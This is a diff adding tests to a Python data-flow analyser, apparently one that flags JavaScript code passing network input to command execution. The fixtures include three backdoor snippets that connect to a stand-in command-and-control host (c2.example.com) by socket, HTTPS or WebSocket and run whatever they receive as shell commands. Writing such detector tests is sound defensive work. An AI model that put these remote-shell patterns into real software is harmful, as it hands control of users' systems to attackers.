@@ -313,3 +313,28 @@ def test_curl_command_is_a_sink() -> None:
 def test_command_without_network_tool_is_not_a_sink() -> None:
     code = "const { execSync } = require('child_process');\nexecSync('echo ' + JSON.stringify(process.env));"
     assert not flows_of(code).flows
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "const net = require('net'); const { exec } = require('child_process');\n"
+        "const c = net.connect(4444, 'c2.example.com');\nc.on('data', (d) => exec(d.toString()));",
+        "const https = require('https'); const cp = require('child_process');\n"
+        "https.get('https://c2.example.com/t', (res) => res.on('data', (chunk) => cp.execSync(String(chunk))));",
+        "const WS = require('ws'); const cp = require('child_process');\n"
+        "const w = new WS('wss://c2.example.com');\nw.on('message', (m) => cp.spawn('sh', ['-c', m]));",
+    ],
+    ids=["net-socket", "https-response", "ws-message"],
+)
+def test_received_data_reaching_a_command(code: str) -> None:
+    flows = flows_of(code).flows
+    assert any(f.sink.executes and f.source.kind is Kind.REMOTE for f in flows)
+
+
+def test_command_from_configuration_is_not_remote() -> None:
+    code = (
+        "const { exec } = require('child_process');\nconst net = require('net');\n"
+        "module.exports = (cfg) => { net.connect(cfg.port); exec(cfg.command); };"
+    )
+    assert not [f for f in flows_of(code).flows if f.sink.executes]
